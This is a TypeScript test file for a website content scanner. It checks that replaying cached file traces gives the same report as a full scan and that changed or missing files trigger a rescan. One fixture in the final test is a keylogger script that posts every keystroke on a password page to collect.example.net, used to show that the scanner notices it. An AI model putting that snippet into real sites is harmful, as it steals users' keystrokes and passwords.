/**
 * Replaying traces (analyze.ts analyzeSiteTraced, context.ts FileTrace): a check that replays the
 * traces of unchanged files reports exactly what a full scan reports, on every site of the corpus
 * and the held-out set, and a trace whose answers changed (a linked file gone, an included script
 * changed) is never replayed.
 */
import type { ContentCheckReport } from '@sitehall/contracts';
import { describe, expect, it } from 'vitest';
import { heldOut, loadCorpus } from '../../test/support/content-corpus.js';
import { analyzeSiteTraced, type FileText } from './analyze.js';
import type { FileTrace } from './context.js';

const texts = (files: Record<string, string>): FileText[] =>
  Object.entries(files).map(([path, text]) => ({
    path,
    size: Buffer.byteLength(text),
    extension: path.includes('.') ? path.slice(path.lastIndexOf('.') + 1).toLowerCase() : '',
    text,
    complete: true,
  }));

const entry = (files: Record<string, string>) => (files['index.html'] !== undefined ? 'index.html' : null);
const comparable = ({ checked_at: _, ...report }: ContentCheckReport) => report;

/** Traces by path, from a full scan of `files`. */
function traced(files: Record<string, string>) {
  const list = texts(files);
  const { report, traces, stale } = analyzeSiteTraced(list, entry(files));
  expect(stale).toEqual([]);
  const byPath = new Map<string, FileTrace>();
  traces.forEach((trace, i) => {
    if (trace) byPath.set(list[i]!.path, trace);
  });
  return { report, byPath };
}

/** A check of `files` given the traces of an earlier check, as index.ts runs it. */
function replayed(
  files: Record<string, string>,
  earlier: Map<string, FileTrace>,
  old: Record<string, string>,
) {
  const list = texts(files).map((f) =>
    // Only a file with the same path and text keeps its trace (index.ts keys them by bytes).
    old[f.path] === files[f.path] && earlier.has(f.path) ? { ...f, trace: earlier.get(f.path)! } : f,
  );
  const first = analyzeSiteTraced(list, entry(files));
  if (first.stale.length === 0) return { ...first, rescanned: [] as string[] };
  const rescanned = first.stale.map((i) => list[i]!.path);
  const second = analyzeSiteTraced(
    list.map((f, i) => (first.stale.includes(i) ? { ...f, trace: undefined } : f)),
    entry(files),
  );
  expect(second.stale).toEqual([]);
  return { ...second, rescanned };
}

describe('replaying traces', () => {
  const sites = [...loadCorpus(), ...heldOut(3, 29)];

  it('reports what a full scan reports, on every corpus and held-out site', () => {
    for (const site of sites) {
      const { report, byPath } = traced(site.files);
      const again = replayed(site.files, byPath, site.files);
      expect(again.rescanned, site.name).toEqual([]);
      expect(comparable(again.report), site.name).toEqual(comparable(report));
    }
  });

  it('with one file changed, scans that file only and reports what a full scan reports', () => {
    for (const site of sites) {
      const { byPath } = traced(site.files);
      const [first] = Object.keys(site.files).sort();
      const changed = { ...site.files, [first!]: `${site.files[first!]}\n` };
      const again = replayed(changed, byPath, site.files);
      expect(comparable(again.report), site.name).toEqual(comparable(traced(changed).report));
    }
  });

  it('scans a page again when a file it links to is gone', () => {
    const v1 = {
      'index.html': '<!doctype html><a href="about.html">关于</a><img src="logo.png">',
      'about.html': '<!doctype html><p>关于我们</p>',
      'logo.png': 'x',
    };
    const { byPath } = traced(v1);
    const { 'about.html': _, ...v2 } = v1;
    const again = replayed(v2, byPath, v1);
    expect(again.rescanned).toEqual(['index.html']);
    const missing = again.report.findings.filter((f) => f.rule === 'ref.missing-file');
    expect(missing.map((f) => [f.file, f.message])).toEqual([
      ['index.html', expect.stringContaining('about.html')],
    ]);
    expect(comparable(again.report)).toEqual(comparable(traced(v2).report));
  });

  it('scans a page again when a script it includes starts doing something else', () => {
    const page =
      '<!doctype html><form><input type="password" name="pw"></form><script src="app.js"></script>';
    const v1 = { 'index.html': page, 'app.js': 'console.log("hi");' };
    const { byPath } = traced(v1);
    const v2 = {
      'index.html': page,
      'app.js': `document.addEventListener('keydown', (e) => {
        fetch('https://collect.example.net/k', { method: 'POST', body: e.key });
      });`,
    };
    const fresh = traced(v2).report;
    const again = replayed(v2, byPath, v1);
    expect(again.rescanned).toEqual(['index.html']);
    expect(comparable(again.report)).toEqual(comparable(fresh));
    // The change is one the page's findings show (else this test would prove nothing).
    expect(comparable(fresh)).not.toEqual(comparable(traced(v1).report));
  });
});
